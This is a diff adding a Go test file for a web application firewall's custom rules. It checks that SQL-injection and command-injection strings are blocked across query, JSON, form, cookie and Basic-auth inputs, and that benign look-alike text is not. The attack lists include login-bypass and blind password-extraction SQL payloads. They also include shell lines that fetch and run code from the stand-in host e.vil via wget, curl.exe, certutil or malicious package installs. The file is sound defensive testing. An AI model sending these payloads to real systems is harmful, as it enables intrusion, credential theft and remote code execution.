@@ -1,0 +1,142 @@
+package waf
+
+import (
+	"encoding/base64"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+	"testing"
+)
+
+// sqlFunctionAttacks are a twelfth fresh-eyes attack's (attack 16) B1 and
+// B2: SQL functions no rule knew, after a closed quote or a number and a
+// logical operator (rule 210156).
+var sqlFunctionAttacks = []string{
+	// B1: login bypasses
+	"x' OR json_valid('1') --", "' OR json_type('1') IS 'integer' OR '", "x' OR json_valid('1')#", "x' OR unlikely(1)-- -",
+	"x' OR likelihood(1,0.5)-- -", "x' OR regexp_like('a','a')-- -", "x' OR jsonb_valid('1')-- -", "x' OR JSON_DEPTH('1')-- -",
+	"x' OR ISJSON('1')=1-- -", "x' OR json_group_array(1) IS NOT NULL-- -",
+	// B2: blind extraction
+	"x' OR json_quote((SELECT password FROM users LIMIT 1)) LIKE '\"s%", "admin' AND json_quote(password) LIKE '\"s%",
+	"x' AND json_extract(password,'$') LIKE 'a%' AND '1'='1", "1 AND json_extract(password,'$') LIKE 'a%'", "1 AND json_valid(password)=0",
+	"1 AND json_type(password) IS 'text'",
+	// the shapes: a comment as the space, NOT, a no-break space, a double quote
+	"x' or/**/json_valid('1')--", "x' OR NOT json_valid('x')--", "x\" OR json_valid('1')--",
+}
+
+// sqlFunctionAttacksCRS are more of rule 210156's shapes that the CRS
+// alone refuses in the query, JSON and a form (its 942 rules know the
+// function or the comment after it): on the expression only.
+var sqlFunctionAttacksCRS = []string{
+	"x'||likely(1)--", "x' && regexp_instr(password,'^a')--", "x') OR (iif(1,1,0))--", "x' OR typeof(1)='integer'--", "x' or instr(password,'a')--",
+	"x' AND unicode(password)>97--", "7 OR sqlite_version() LIKE '3%'", "x' AND hex(substr(password,1,1))='61'--", "x' OR json_valid('1')--",
+	"x'\u00a0OR\u00a0json_valid('1')--",
+}
+
+// sqlFunctionBenign is prose and search text near rule 210156's attacks.
+var sqlFunctionBenign = []string{
+	"it is json_valid or not", "select or json", "Is it 'valid' or not?", "the 'json' or 'xml' format",
+	"Tom's hex key or char code", "'likely' or unlikely", "1 or 2 days", "3 and char", "Use json_valid() to check", "call unlikely(x) in C",
+	"She said 'yes' and then format it", "'a' or b", "He wrote \"ok\" and left", "search: json_extract", "rock 'n' roll or jazz",
+}
+
+// sqlFunctionBenignCRS are near-misses the CRS alone refuses (so no rule
+// of ours can let them through): on the expression only.
+var sqlFunctionBenignCRS = []string{"it's likely (1) of the best", "likely (1)", "if (likely(x)) return", "x = 'a' OR y"}
+
+// shellExtraAttacks are attack 16's B3 to B5: the shell as $0, package
+// runners and cmd.exe's programs after a separator (rule 210159).
+var shellExtraAttacks = []string{
+	// B3
+	"127.0.0.1;$0 -c id", "127.0.0.1;$0 -c \"wget e.vil/x -O- | $0\"", "127.0.0.1|$0 -c uname", "127.0.0.1;$0<<<id",
+	// B4
+	"127.0.0.1;npx -y evilpkg", "127.0.0.1 && npx github:evil/x", ";pip install evilpkg", ";uvx evilpkg", ";pipx run evilpkg", ";bunx evilpkg",
+	";gem install evilgem", ";go run e.vil/x@latest", ";deno run -A https://e.vil/x.ts", ";pip3 install evilpkg",
+	";npm exec evilpkg", ";pnpm dlx evilpkg", "x|npx @evil/pkg", ";npx evilpkg --yes",
+	// B5
+	"127.0.0.1 & curl.exe -o x.bat e.vil/x.bat & x.bat", "127.0.0.1 & curl.exe -o %TEMP%\\x.exe e.vil/x.exe && %TEMP%\\x.exe",
+	"127.0.0.1 & \\\\e.vil\\share\\x.exe", "127.0.0.1 & tar.exe -xf \\\\e.vil\\s\\x.zip", "x & C:\\Users\\Public\\x.bat",
+}
+
+// shellExtraAttacksCRS are more of rule 210159's shapes that the CRS
+// alone refuses in the query, JSON and a form: on the expression only.
+var shellExtraAttacksCRS = []string{"127.0.0.1;${0} -c id", "x && ${0}<<<id", "x;$0 < /tmp/x.sh", ";python3 -m pip install evilpkg",
+	";yarn dlx evilpkg", ";cargo install evilcrate", "x & CERTUTIL.EXE -urlcache -f http://e.vil/x x.exe"}
+
+// shellExtraBenign is prose near rule 210159's attacks.
+var shellExtraBenign = []string{
+	"Total; $0 fee", "Price | $0 |", "Free & $0 -- no card", "costs $0; $0 - 5 = -5", "$0 -c",
+	"npx -y evilpkg", "Q&A: setup", "gem; gem of the day", "Tom & Jerry", "pip install requests", "go run main.go", "R&D: curl.exe docs",
+	"Dogs & cats; pip is a seed", "x & y.exe", "Use & npx",
+}
+
+// shellExtraBenignCRS are near-misses the CRS alone refuses: on the
+// expression only.
+var shellExtraBenignCRS = []string{"I use yarn; npx is faster", "Ready; go run fast.", "Sales & net; cargo ships", "see C:\\Program Files\\x", "a;go get it"}
+
+// TestSQLFunctionRule: rule 210156's expression, as Coraza compiles it
+// (with (?sm)), on comments replaced by a space (t:replaceComments).
+func TestSQLFunctionRule(t *testing.T) {
+	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(sqlFunctionRule, `\"`, `"`))
+	comments := regexp.MustCompile(`/\*.*?\*/`)
+	for _, v := range append(append([]string{}, sqlFunctionAttacks...), sqlFunctionAttacksCRS...) {
+		if !rx.MatchString(comments.ReplaceAllString(v, " ")) {
+			t.Errorf("%q: not refused", v)
+		}
+	}
+	for _, v := range append(append([]string{}, sqlFunctionBenign...), sqlFunctionBenignCRS...) {
+		if rx.MatchString(v) {
+			t.Errorf("the benign %q: refused", v)
+		}
+	}
+}
+
+// TestShellExtraRule: rule 210159's expression, as Coraza compiles it.
+func TestShellExtraRule(t *testing.T) {
+	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(shellExtraRule, `\"`, `"`))
+	for _, v := range append(append([]string{}, shellExtraAttacks...), shellExtraAttacksCRS...) {
+		if !rx.MatchString(v) {
+			t.Errorf("%q: not refused", v)
+		}
+	}
+	for _, v := range append(append([]string{}, shellExtraBenign...), shellExtraBenignCRS...) {
+		if rx.MatchString(v) {
+			t.Errorf("the benign %q: refused", v)
+		}
+	}
+}
+
+// TestSQLFunctionsBeyondTheCRS: attack 16's B1 to B5 through a real
+// Caddy, in the query, JSON, a form, a cookie and a Basic user name, each
+// passed by the CRS alone and refused with the additions; the near-misses
+// pass.
+func TestSQLFunctionsBeyondTheCRS(t *testing.T) {
+	tableOnly(t)
+	q := url.QueryEscape
+	var catches, misses, benign []probe
+	for _, v := range append(append([]string{}, sqlFunctionAttacks...), shellExtraAttacks...) {
+		cookie := probe{name: v + " in a cookie", method: "GET", path: "/login", header: http.Header{"Cookie": {"user=" + q(v)}}}
+		if v == "x' OR json_group_array(1) IS NOT NULL-- -" {
+			// the CRS alone refuses this one in a cookie
+			catches = append(catches, cookie)
+		} else {
+			misses = append(misses, cookie)
+		}
+		misses = append(misses,
+			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
+			probe{name: v + " in JSON", method: "POST", path: "/login", contentType: "application/json", body: jsonString("user", v)},
+			probe{name: v + " in a form", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded", body: "user=" + q(v) + "&pass=x"},
+		)
+		if !strings.Contains(v, ":") {
+			misses = append(misses, probe{name: v + " in a Basic user", method: "GET", path: "/account",
+				header: http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte(v+":x"))}}})
+		}
+	}
+	for _, v := range append(append([]string{}, sqlFunctionBenign...), shellExtraBenign...) {
+		benign = append(benign,
+			probe{name: v + " in the query", method: "GET", path: "/search?q=" + q(v)},
+			probe{name: v + " in JSON", method: "POST", path: "/notes", contentType: "application/json", body: jsonString("v", v)})
+	}
+	runBeyondTheCRS(t, catches, misses, benign)
+}
